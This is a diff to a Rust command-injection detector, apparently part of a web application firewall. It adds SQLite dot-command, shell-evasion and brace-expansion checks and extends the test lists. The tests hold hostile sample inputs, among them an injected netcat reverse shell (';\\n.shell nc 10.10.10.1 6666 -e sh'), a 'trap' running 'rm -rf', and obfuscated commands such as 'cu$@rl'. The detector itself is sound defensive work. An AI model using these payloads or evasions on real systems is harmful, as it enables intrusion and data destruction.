@@ -497,10 +497,19 @@ fn alias(u: &str) -> bool {
 
 /// SQLite shell dot-commands after a separator: `;\n.shell id`, `1;.sh whoami`.
 fn sqlite_dot_command(u: &str) -> bool {
-    [";.", "\n.", ";\n."].iter().any(|sep| {
-        u.match_indices(sep).any(|(at, _)| {
-            let rest = &u[at + sep.len()..];
-            [
+    let b = u.as_bytes();
+    u.match_indices([';', '\n']).any(|(at, _)| {
+        // Whitespace and written-out line breaks (`;\\n.shell`) may sit before the dot.
+        let mut i = at + 1;
+        loop {
+            match b.get(i) {
+                Some(b' ' | b'\t' | b'\r' | b'\n') => i += 1,
+                Some(b'\\') if matches!(b.get(i + 1), Some(b'n' | b'r')) => i += 2,
+                _ => break,
+            }
+        }
+        b.get(i) == Some(&b'.')
+            && [
                 "shell",
                 "system",
                 "sh ",
@@ -514,8 +523,7 @@ fn sqlite_dot_command(u: &str) -> bool {
                 "load",
             ]
             .iter()
-            .any(|c| rest.starts_with(c))
-        })
+            .any(|c| u[i + 1..].starts_with(c))
     })
 }
 
@@ -528,8 +536,9 @@ pub(crate) static LANGUAGES: &[&str] = &[
 
 /// Commands that run the command after them.
 pub(crate) static PREFIXES: &[&str] = &[
-    "builtin", "busybox", "chroot", "command", "doas", "env", "exec", "ltrace", "nice", "nohup",
-    "setsid", "stdbuf", "strace", "sudo", "time", "timeout", "unbuffer", "watch", "xargs",
+    "builtin", "busybox", "chroot", "command", "doas", "env", "eval", "exec", "ltrace", "nice",
+    "nohup", "setsid", "stdbuf", "strace", "sudo", "time", "timeout", "trap", "unbuffer", "watch",
+    "xargs",
 ];
 
 /// Text after a command word that reads as command-line arguments: an option, a path, a
@@ -579,6 +588,8 @@ fn command_in(s: &str) -> Option<u32> {
     let mut i = 0;
     // 0: inside text; b'^': start of value; other: the separator seen.
     let mut sep = b'^';
+    // Whether the byte before the current word was a separator, not a space.
+    let mut glued = false;
     while i < b.len() {
         let c = b[i];
         if is_cmd_byte(c) || c == b'/' {
@@ -611,7 +622,10 @@ fn command_in(s: &str) -> Option<u32> {
                             || is_strong && word_follows && !is_one_of(LANGUAGES, word)
                     }
                     b';' | b'&' | b'\n' | b'\r' => {
-                        (is_strong && (ends && !rest.starts_with(',') || args)) || (is_weak && args)
+                        (is_strong && (ends && !rest.starts_with(',') || args))
+                            || (is_weak && args)
+                            // `;top x`: a `;` glued to a command word, as no prose writes it.
+                            || (is_weak && sep == b';' && glued && word_follows)
                     }
                     _ => (is_strong || is_weak) && (ends || args),
                 };
@@ -644,6 +658,7 @@ fn command_in(s: &str) -> Option<u32> {
             b',' if sep == b'|' => {}
             _ => sep = 0,
         }
+        glued = !matches!(c, b' ' | b'\t');
         i += 1;
     }
     None
@@ -693,6 +708,59 @@ fn mail_injection(s: &str) -> bool {
                 && l.split_whitespace()
                     .next()
                     .is_some_and(|t| t.bytes().any(|b| b.is_ascii_digit())))
+    })
+}
+
+/// A word with shell-evasion characters inside it that spells a command once they are
+/// removed: `cu$@rl`, `pi``ng`, `c'a't`, `w\\ho\\ami` (a single apostrophe is English:
+/// `I'd`, `don't`).
+fn evaded_command_word(l: &str) -> bool {
+    l.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '<' | '>'))
+        .any(|raw| {
+            // Quotes around a word are prose; backticks glued to it are an empty substitution.
+            let word = raw.trim_matches(|c| matches!(c, '\'' | '"'));
+            let inner = word.len() > 2
+                && word.as_bytes()[1..word.len() - 1]
+                    .iter()
+                    .any(|b| matches!(b, b'\\' | b'^' | b'\'' | b'"' | b'$' | b'`'));
+            let quotes = word.matches(['\'', '"']).count();
+            let other = word.contains(['\\', '^', '$', '`']);
+            if !inner || (quotes < 2 && !other) || word.len() > 40 {
+                return false;
+            }
+            let plain = unevade(word);
+            plain.len() >= 2
+                && plain.bytes().all(|b| is_cmd_byte(b) || b == b'/')
+                && command_kind(&plain) & (STRONG | WEAK | WINDOWS) != 0
+        })
+}
+
+/// Brace expansion that spells a command: `{l,-lh}s` expands to `ls -lhs`.
+fn brace_command(u: &str) -> bool {
+    let b = u.as_bytes();
+    u.match_indices('{').any(|(open, _)| {
+        let Some(len) = u[open..].find('}').filter(|l| *l <= 40) else {
+            return false;
+        };
+        let inner = &u[open + 1..open + len];
+        if !inner.contains(',') || !inner.bytes().all(|c| is_cmd_byte(c) || c == b',') {
+            return false;
+        }
+        let before = b[..open]
+            .iter()
+            .rev()
+            .take_while(|c| c.is_ascii_alphanumeric())
+            .count();
+        let prefix = &u[open - before..open];
+        let after = &u[open + len + 1..];
+        let suffix = &after[..after
+            .bytes()
+            .take_while(|c| c.is_ascii_alphanumeric())
+            .count()];
+        inner.split(',').any(|part| {
+            let word = format!("{prefix}{part}{suffix}");
+            word.len() >= 2 && command_kind(&word) & (STRONG | WEAK | WINDOWS) != 0
+        })
     })
 }
 
@@ -746,7 +814,7 @@ pub fn detect(v: &Views, rules: &Rules) -> Option<u32> {
     }
     if rules.on(932100)
         && (has(b'=') && alias(u)
-            || v.bytes.any(b";\n") && sqlite_dot_command(u)
+            || v.bytes.any(b";\n") && (sqlite_dot_command(u) || sqlite_dot_command(l))
             || (u != l && names_command(u.trim(), UNIX_COMMANDS)))
     {
         return Some(932100);
@@ -777,6 +845,11 @@ pub fn detect(v: &Views, rules: &Rules) -> Option<u32> {
                 .any(|k| u.contains(k)))
     {
         return Some(932110);
+    }
+    if rules.on(932200)
+        && (evasive && evaded_command_word(l) || has(b'{') && has(b',') && brace_command(u))
+    {
+        return Some(932200);
     }
     if rules.on(932200) {
         // Brace expansion `{ls,-la}`, tilde expansion `~+`, history `!-1`.
@@ -814,6 +887,16 @@ mod tests {
             "$(whoami)",
             "cmd /c dir",
             "time sh -c whoami",
+            // Evasions inside a word, brace expansion, commands run by trap/eval, a `;`
+            // glued to a command, SQLite dot commands after written-out line breaks.
+            "cu$@rl google.com",
+            "ping`` 127.0.0.1",
+            "pi``ng 127.0.0.1",
+            "{l,-lh}s",
+            ";trap 'rm -rf file.txt' SIGEXIT",
+            "After ;top something",
+            ";\\n.shell nc 10.10.10.1 6666 -e sh",
+            ";\n.databases",
         ] {
             assert!(hit(s), "{s}");
         }
@@ -827,6 +910,13 @@ mod tests {
             "We need that data now",
             "cats and dogs",
             "I use less sugar",
+            "I'd say it's fine",
+            "''that's the joke''.jpeg",
+            "O'keefe's",
+            "{a,b} and {x,y}",
+            "use `code` here",
+            "we top; something",
+            "trap door",
         ] {
             assert!(!hit(s), "{s}");
         }
